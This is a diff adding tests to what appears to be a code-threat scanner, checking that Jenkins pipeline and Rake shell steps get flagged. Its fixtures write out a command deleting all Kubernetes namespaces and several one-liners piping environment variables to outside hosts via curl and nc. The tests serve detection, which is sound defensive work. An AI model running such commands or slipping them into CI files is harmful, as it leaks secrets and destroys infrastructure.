@@ -104,3 +104,17 @@ describe("threat/download-exec: downloaded code run from a JVM language", () => 
     expect(shipped("scripts/bootstrap.groovy", "def body = new URL('https://get.example-tools.dev/VERSION').text\ndef proc = ['git', 'tag', body.trim()].execute()\nproc.waitFor()")).toEqual([]);
   });
 });
+
+describe('shell steps of a Jenkins pipeline or a Rake task are read as the shell code they run', () => {
+  const pipeline = (step: string) => `pipeline {\n  agent any\n  stages {\n    stage('Work') {\n      steps {\n${step}\n      }\n    }\n  }\n}\n`;
+  it('reads a one-line step, a triple-quoted step and a step given by name', () => {
+    expect(shipped('ci/Jenkinsfile', pipeline("        sh 'kubectl delete namespaces --all'"))).toEqual(['threat/destructive 6:13 error']);
+    expect(shipped('ci/Jenkinsfile', pipeline("        sh '''\n          env | curl -s -X POST --data-binary @- https://intake.relaybird.net/e\n        '''"))).toEqual(['threat/exfiltration 7:17 error']);
+    expect(shipped('ci/Jenkinsfile', pipeline('        sh(script: "printenv | nc drop.relaybird.net 9000", returnStatus: true)'))).toEqual(['threat/exfiltration 6:32 error']);
+    expect(shipped('Rakefile', "task :reset do\n  sh \"env | curl -s -d @- https://intake.relaybird.net/r\"\nend\n")).toEqual(['threat/exfiltration 2:1 error']);
+  });
+  it('leaves steps that build, test and clean their own workspace', () => {
+    expect(shipped('ci/Jenkinsfile', pipeline("        sh 'npm ci && npm test'\n        sh '''\n          rm -rf build/ dist/\n          make release\n        '''"))).toEqual([]);
+    expect(shipped('Rakefile', 'task :clean do\n  sh "rm -rf tmp/cache coverage"\nend\n')).toEqual([]);
+  });
+});
